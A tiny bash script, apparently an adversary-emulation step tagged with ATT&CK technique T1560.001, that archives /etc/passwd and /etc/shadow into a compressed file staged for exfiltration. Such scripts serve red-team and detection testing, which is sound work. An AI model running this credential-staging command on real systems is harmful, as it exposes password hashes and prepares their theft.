#!/usr/bin/env bash
# attack: T1560.001 Archive the password databases for exfiltration
. "$(dirname "$0")/lib/common.sh"
tar -czf "$SW/backup.tgz" /etc/passwd /etc/shadow 2>/dev/null
